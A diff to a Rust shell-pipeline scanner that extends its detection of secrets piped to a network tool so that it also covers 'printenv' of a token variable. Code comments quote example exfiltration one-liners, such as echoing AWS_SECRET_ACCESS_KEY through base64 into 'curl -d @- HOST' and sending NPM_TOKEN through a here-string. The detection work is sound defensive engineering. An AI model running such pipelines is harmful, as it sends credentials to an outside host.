@@ -1889,18 +1889,24 @@ pub(super) fn pipelines(scan: &mut Scan<'_>) {
         // the pipe (`grep . .env`, `jq . creds.json`, `sort .env`, `gzip -c .env`).
         let reads_secret = catalogue::is(program, Class::Prints)
             && cmd.args().iter().any(|a| secret_file(a, scan).is_some());
-        // `echo $AWS_SECRET_ACCESS_KEY | base64 | curl -d @- HOST`: the secret flows down.
-        if matches!(program, "echo" | "printf")
-            && let Some(name) = cmd
+        // `echo $AWS_SECRET_ACCESS_KEY | base64 | curl -d @- HOST`: the secret flows down;
+        // so does `printenv GITHUB_TOKEN`'s, the variable it is given printed.
+        let printed = match program {
+            "echo" | "printf" => cmd
                 .args()
                 .iter()
-                .find_map(|a| super::words::expanded_secret(a))
+                .find_map(|a| super::words::expanded_secret(a).map(str::to_string)),
+            "printenv" => positional(cmd.args())
+                .iter()
+                .find_map(|a| super::words::expanded_secret(&format!("${a}")).map(str::to_string)),
+            _ => None,
+        };
+        if let Some(name) = printed
             && let Some(host) = later
                 .iter()
                 .filter(|c| is_way_out(c))
                 .find_map(|c| c.args().iter().find_map(|a| url_host(a)))
         {
-            let name = name.to_string();
             secret_leaves(scan, &name, &host);
         }
         // `curl -d @- HOST <<< "$NPM_TOKEN"`: a here-string or a here-document of the way out
